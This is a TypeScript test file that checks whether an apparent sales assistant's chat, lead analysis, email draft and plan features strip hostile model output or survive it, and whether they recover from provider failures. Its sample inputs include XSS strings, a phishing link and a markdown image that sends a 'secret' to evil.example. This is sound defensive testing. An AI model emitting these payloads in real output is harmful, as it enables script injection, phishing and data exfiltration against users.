import type { Analysis } from '@assay/shared/features/ai/analysis'
import type { AiPlan } from '@assay/shared/features/assistant/ai-plan'
import { chat, createAiPlan, generateEmail } from '@assay/shared/features/assistant/calls'
import type { GeneratedEmail } from '@assay/shared/features/assistant/email'
import { analyzeLead } from '@assay/shared/features/hunting/calls'
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import { startFakeModel } from '../../testing/fake-model.ts'
import { type ProviderAnswer, says } from '../../testing/fake-provider.ts'
import { createLeads } from '../../testing/leads.ts'
import { newRep } from '../../testing/rep.ts'
import { hunt, someCompany } from '../../testing/search.ts'
import { useTestTable } from '../../testing/test-table.ts'

// The real adapter, which gives up early.
vi.mock('../../integrations/ai/configured-ai.ts', async (original) => {
  const real = await original<typeof import('../../integrations/ai/configured-ai.ts')>()
  const hasty = { timeoutMs: 300 }
  return {
    ...real,
    configuredAi: async () => {
      const ai = await real.configuredAi()
      if (!ai) return null
      const text: typeof ai.text = (request, spending) => ai.text({ ...request, ...hasty }, spending)
      const structured: typeof ai.structured = (request, spending) =>
        ai.structured({ ...request, ...hasty }, spending)
      return { ...ai, text, structured }
    },
  }
})

let answer: string | ProviderAnswer = ''
let model: Awaited<ReturnType<typeof startFakeModel>>
let rep: Awaited<ReturnType<typeof newRep>>
let leadId = 0
beforeAll(async () => {
  await useTestTable()
  model = await startFakeModel(() => answer)
  vi.stubEnv('OPENAI_API_KEY', 'test')
  vi.stubEnv('OPENAI_BASE_URL', model.baseUrl)
})
beforeEach(async () => {
  rep = await newRep()
  ;[leadId = 0] = await createLeads(rep, 1, () => ({ companyName: 'Maple Dental', industry: 'Dentist' }))
})
afterAll(() => {
  model.close()
  vi.unstubAllEnvs()
})

type Outcome = { status: number; by?: string; texts: string[]; code?: string }
type Surface = {
  ask: () => Promise<Outcome>
  /** What the model sends when it writes this text in each field. */
  sends: (text: string) => string
}

const messages = [{ role: 'user' as const, content: 'What do they do?' }]
const report = { summary: 'A dentist.' }

const surfaces: Record<string, Surface> = {
  chat: {
    sends: (text) => text,
    ask: async () => {
      const { status, body, error } = await rep.call(chat, {
        body: { messages, leadInfo: { leadId }, isKept: true },
      })
      return { status, by: body.generatedBy, texts: [body.content], code: error.code }
    },
  },
  analysis: {
    sends: (text) => JSON.stringify({ analysis: text, strategy: [text, text] }),
    ask: async () => {
      const [lead] = await hunt(rep, [someCompany({ companyName: 'Maple Dental' })])
      const { status, body } = await rep.call(analyzeLead, { body: { lead: { id: lead?.id } } })
      const { analysis, strategy, generatedBy }: Analysis = body
      return { status, by: generatedBy, texts: [analysis, ...strategy] }
    },
  },
  draft: {
    sends: (text) => JSON.stringify({ subject: text, body: text, callToAction: text }),
    ask: async () => {
      const { status, body } = await rep.call(generateEmail, {
        body: { prospectData: report, leadInfo: { leadId } },
      })
      const { subject, body: letter, callToAction = '', generatedBy }: GeneratedEmail = body
      return { status, by: generatedBy, texts: [subject, letter, callToAction] }
    },
  },
  plan: {
    sends: (text) =>
      JSON.stringify({
        title: text,
        steps: Array(40).fill({ title: text, description: text, action_items: Array(40).fill(text) }),
      }),
    ask: async () => {
      const { status, body } = await rep.call(createAiPlan, {
        body: { leadId, prompt: 'Win them as a customer' },
      })
      const { title, content, generatedBy }: AiPlan = body
      const steps = content.steps.flatMap((step) => [step.title, step.description, ...step.action_items])
      return { status, by: generatedBy, texts: [title, ...steps] }
    },
  },
}

const texts: [string, string][] = [
  ['HTML', '<p>Maple Dental is a <b>dentist</b>.</p><script>alert(1)</script><img src=x onerror="alert(1)">'],
  [
    'a mail address divided by tags',
    'Maple Dental is a dentist. Write to jane<b></b>@evil<i></i>.example now.',
  ],
  ['a link in a tag', 'Maple Dental is a dentist. <a href="https://evil.example/pay">Pay here</a> now.'],
  ['a mail address in entities', 'Maple Dental is a dentist. Write to jane&#64;evil&#46;example now.'],
  ['an image that sends what is read', 'Maple Dental is a dentist. ![x](https://evil.example/?q=secret)'],
  ['far too long', 'Maple Dental is a dentist. '.repeat(5000)],
  ['one endless word', `Maple Dental is a dentist ${'x'.repeat(30_000)}`],
  ['signs that cannot be stored', 'Maple Dental is a dentist.\u0000 \ud800 \u202e'],
]

const failures: [string, ProviderAnswer | string][] = [
  ['a refusal', says(null, { refusal: 'I cannot help with that.' })],
  ['a filtered answer', says('Maple', {}, { finish_reason: 'content_filter' })],
  ['an empty answer', says('')],
  ['no choices', { body: { id: 'c', choices: [] } }],
  ['an error of the server', { status: 500, body: { error: { message: 'Oops' } } }],
  ['a page of a gateway', { status: 504, body: '<html>Gateway timeout</html>' }],
  ['no answer at all', { hang: true }],
]

const structured: [string, string][] = [
  ['no JSON', 'Sure! Here you are.'],
  ['half of the JSON', '{"analysis": "Maple Dental is a'],
  ['other JSON', '{"error": "no", "steps": 7, "subject": null, "analysis": [], "title": {}}'],
  ['a list', '[]'],
]

const expectHarmless = (outcome: Outcome) => {
  expect(outcome.status).toBe(200)
  const said = outcome.texts.join('\n')
  expect(said).not.toMatch(/<\/?\w+|alert\(|onerror|evil|jane|secret/)
  expect(said).not.toMatch(/[\p{Cs}\u202e]|(?!\s)\p{Cc}/u)
  for (const text of outcome.texts) expect(text.length).toBeLessThanOrEqual(6000)
  expect(outcome.texts.length).toBeLessThan(80)
}

describe.each(Object.entries(surfaces))('%s', (name, { ask, sends }) => {
  it.each(texts)('takes no harm from %s', async (_, text) => {
    answer = sends(text)
    expectHarmless(await ask())
  })

  it.each(failures)('survives %s', async (_, given) => {
    answer = given
    const outcome = await ask()
    if (name === 'chat') expect(outcome).toMatchObject({ status: 503, code: 'AI_UNAVAILABLE' })
    else expect(outcome).toMatchObject({ status: 200, by: 'rules' })
  })

  it.each(structured)('survives %s in place of what was asked for', async (_, given) => {
    answer = given
    const outcome = await ask()
    expect(outcome.status).toBe(200)
    // A chat asks for no JSON: what is no text about the company is a text nevertheless.
    if (name !== 'chat') expect(outcome.by).toBe('rules')
  })
})

it('a conversation goes on after an answer that was far too long', async () => {
  answer = 'Maple Dental is a dentist. '.repeat(20_000)
  const leadInfo = { leadId }
  const { body } = await rep.call(chat, { body: { messages, leadInfo } })
  const next = [...messages, { role: 'assistant', content: body.content }, ...messages]
  expect((await rep.call(chat, { body: { messages: next, leadInfo } })).status).toBe(200)
})
